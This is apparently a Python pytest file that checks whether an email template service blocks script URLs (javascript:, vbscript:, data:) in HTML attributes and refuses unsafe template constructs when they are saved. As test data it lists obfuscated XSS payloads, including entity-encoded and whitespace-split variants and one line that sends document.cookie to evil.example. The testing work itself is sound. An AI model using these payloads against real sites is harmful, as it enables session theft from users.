"""In html parts no attribute value can make a script URL: a link or image address that
starts with a value is checked as it renders (as a browser reads it), and a template that puts
a value where escaping cannot keep it in its place is refused at save."""

import pytest

from models.states import MessageState
from tests.factories import visit_reminder
from tests.support import settled, wait_until

BLOCKED = "about:invalid#blocked"

HOSTILE = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "\x01\x02\x1f javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscr\ript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
#: Values the template marks safe: entities are the template's own HTML, decoded by browsers.
HOSTILE_HTML = [
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&Tab;javascript:alert(1)",
    "java&NewLine;script:alert(1)",
]
HARMLESS = [
    "https://example.md/pay?a=1&b=2",
    "http://example.md",
    "mailto:ion@example.md",
    "tel:+37322000000",
    "/cabinet/messages",
    "?page=2",
    "#top",
    "cabinet/messages",
    "&#106;avascript:alert(1)",  # escaped: a browser reads the text "&#106;avascript:…"
]


def linking(html: str, code: str = "link") -> dict:
    return visit_reminder(
        code=code,
        attributes=[
            {"name": "link", "required": True, "example": "https://example.md"},
            {"name": "rest", "required": False, "example": "//example.md"},
        ],
        contents=[
            {"channel": "email", "language": "ro", "subject": "S", "body": "b", "html": html}
        ],
    )


def preview(client, sender, code: str, **attributes) -> str:
    response = client.post(
        f"/v1/templates/{code}/preview",
        json={"channel": "email", "attributes": attributes},
        headers=sender.headers,
    )
    assert response.status_code == 200, response.get_json()
    return response.get_json()["html"]


def save(client, sender, html: str, code: str = "link") -> None:
    response = client.post("/v1/templates", json=linking(html, code), headers=sender.headers)
    assert response.status_code == 201, response.get_json()


@pytest.mark.parametrize("link", HOSTILE)
def test_a_script_url_from_an_attribute_is_blocked(client, sender, link):
    save(client, sender, "<a href=\"{{ link }}\">Plătiți</a> <img src='{{ link }}'>")

    html = preview(client, sender, "link", link=link)

    assert html == f"<a href=\"{BLOCKED}\">Plătiți</a> <img src='{BLOCKED}'>"


@pytest.mark.parametrize("link", HOSTILE_HTML)
def test_a_script_url_in_html_marked_safe_is_blocked(client, sender, link):
    save(client, sender, '<a href="{{ link | safe }}">Plătiți</a>')

    assert preview(client, sender, "link", link=link) == f'<a href="{BLOCKED}">Plătiți</a>'


@pytest.mark.parametrize("link", HARMLESS)
def test_ordinary_addresses_are_kept(client, sender, link):
    from markupsafe import escape

    save(client, sender, '<a href="{{ link }}">Plătiți</a>')

    assert preview(client, sender, "link", link=link) == f'<a href="{escape(link)}">Plătiți</a>'


@pytest.mark.parametrize(
    ("html", "link", "rest"),
    [
        ('<a href="{{ link }}:{{ rest }}">x</a>', "javascript", "alert(1)"),
        ('<a href="java{{ link }}">x</a>', "script:alert(1)", ""),
        ('<a href=" {{ link }}{{ rest }}">x</a>', "javas", "cript:alert(1)"),
        ('<a href="&#10{{ link | safe }}">x</a>', "6;avascript:alert(1)", ""),
        ('<a href="{{ link ~ rest }}">x</a>', "javascript", ":alert(1)"),
        (
            '{% macro a(url) %}<a href="{{ url }}">x</a>{% endmacro %}{{ a(link) }}',
            "javascript:alert(1)",
            "",
        ),
        (
            '{% for i in [1] %}<a title="{{ i }}" href="{{ link }}">x</a>{% endfor %}',
            "javascript:alert(1)",
            "",
        ),
    ],
)
def test_an_address_is_checked_whole_whatever_it_is_made_of(client, sender, html, link, rest):
    save(client, sender, html)

    rendered = preview(client, sender, "link", link=link, rest=rest)

    assert f'href="{BLOCKED}"' in rendered
    assert "script" not in rendered


def test_an_address_the_template_starts_itself_is_left_as_it_is(client, sender):
    save(client, sender, '<a href="https://example.md/{{ link }}" title="{{ link }}">x</a>')

    rendered = preview(client, sender, "link", link="javascript:alert(1)")

    assert rendered == (
        '<a href="https://example.md/javascript:alert(1)" title="javascript:alert(1)">x</a>'
    )


REFUSED = {
    "attribute name": ("<a {{ link }}>x</a>", "An expression cannot write a tag or an attribute"),
    "tag name": ("<p>ok</p>\n<{{ link }}>", "An expression cannot write a tag or an attribute"),
    "unquoted value": ("<a href={{ link }}>x</a>", "An attribute value holding an expression"),
    "unquoted later": ("<a href=/x{{ link }}>x</a>", "An attribute value holding an expression"),
    "event handler": ("<a onclick=\"go('{{ link }}')\">x</a>", "An expression cannot go in an"),
    "srcdoc": ('<iframe srcdoc="{{ link }}"></iframe>', "An expression cannot go in an"),
    "split address": (
        '<a href="{% if rest %}{{ link }}{% endif %}">x</a>',
        "A link or image address that starts with an expression",
    ),
    "either attribute": (
        '<a {% if rest %}href{% else %}title{% endif %}="{{ link }}">x</a>',
        "A link or image address that starts with an expression",
    ),
    "escaping off": (
        "{% autoescape false %}{{ link }}{% endautoescape %}",
        "Auto-escaping cannot be switched off",
    ),
    "many conditions": (
        '<a href="' + "{% if rest %}a{% endif %}" * 30 + '{{ link }}">x</a>',
        "The HTML around here is too intricate to check",
    ),
    "loops in loops": (
        "{% for i in rest %}{% if rest %}<!--{% else %}-->{% endif %}" * 100 + "{% endfor %}" * 100,
        "The HTML around here is too intricate to check",
    ),
    "macro left open": (
        '{% macro open() %}<a href="{% endmacro %}{{ open() }}{{ link }}">',
        "A macro, call or set block must close",
    ),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_value_where_escaping_cannot_hold_it_is_refused_at_save(client, sender, case):
    html, problem = REFUSED[case]

    response = client.post("/v1/templates", json=linking(html), headers=sender.headers)

    assert response.status_code == 400, response.get_json()
    (message,) = response.get_json()["errors"]["contents"]["0"]["html"]
    assert message.startswith(problem)
    assert message.endswith("(line 2)" if case == "tag name" else "(line 1)")


@pytest.mark.parametrize(
    "html",
    [
        '<td{% if rest %} class="wide"{% endif %}>{{ link }}</td>',
        '<input type="checkbox"{% if rest %} checked{% endif %} value="{{ link }}">',
        '<a href="{{ link }}"{% if rest %} target="_blank"{% endif %}>x</a>',
        '<a href="{% if rest %}https://a.md{% else %}https://b.md{% endif %}/{{ link }}">x</a>',
        '<tr class="{% if rest %}odd{% else %}even{% endif %}"><td>{{ link }}</td></tr>',
        "<style>td > a { color: red }</style><p>{{ link }}</p>",
        '<!-- <a href=" --><a href="{{ link }}">x</a>',
        "<script>var link = \"{{ link }}\";</script><p title='{{ link }}'>{{ link }}</p>",
    ],
)
def test_ordinary_html_with_conditions_saves(client, sender, html):
    response = client.post("/v1/templates", json=linking(html), headers=sender.headers)
    assert response.status_code == 201, response.get_json()


def test_text_parts_are_not_html(client, sender):
    template = linking('<a href="{{ link }}">x</a>')
    template["contents"][0]["body"] = "{{ link }} <a {{ link }}>"
    save_response = client.post("/v1/templates", json=template, headers=sender.headers)
    assert save_response.status_code == 201, save_response.get_json()

    response = client.post(
        "/v1/templates/link/preview",
        json={"channel": "email", "attributes": {"link": "javascript:alert(1)"}},
        headers=sender.headers,
    )

    assert response.get_json()["body"] == "javascript:alert(1) <a javascript:alert(1)>"


def test_a_sent_email_carries_the_blocked_address(client, sender, smtp, worker):
    save(client, sender, '<p><a href="{{ link }}">Plătiți</a></p>')
    response = client.post(
        "/v1/notifications",
        json={
            "template": "link",
            "attributes": {"link": " javascript:fetch('//evil.example/'+document.cookie)"},
            "recipients": [{"type": "email", "value": "ion@example.md"}],
        },
        headers=sender.headers,
    )
    assert response.status_code == 202, response.get_json()

    (mail,) = smtp.wait_for(1, timeout=30)
    wait_until(settled(response.get_json()["messages"][0]["id"], MessageState.SENT))
    html = mail.email.get_body(("html",)).get_content()
    assert f'<a href="{BLOCKED}">Plătiți</a>' in html
    assert "javascript" not in html
